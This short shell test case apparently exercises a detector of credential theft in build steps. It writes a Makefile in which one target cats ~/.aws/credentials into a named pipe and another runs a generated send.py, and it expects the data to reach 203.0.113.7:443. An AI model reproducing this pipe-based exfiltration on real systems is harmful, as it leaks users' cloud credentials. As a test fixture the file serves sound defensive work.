# Two commands of the step share a pipe with a name
# expect: 86 .aws/credentials 203.0.113.7:443
. "$(dirname "$0")/../lib.sh"
mkfifo p; python_thief ./p >send.py
printf 'a:\n\tcat ~/.aws/credentials >p\nb:\n\tpython3 send.py\n' >Makefile
step <<'X'
make a &
make b
wait
X
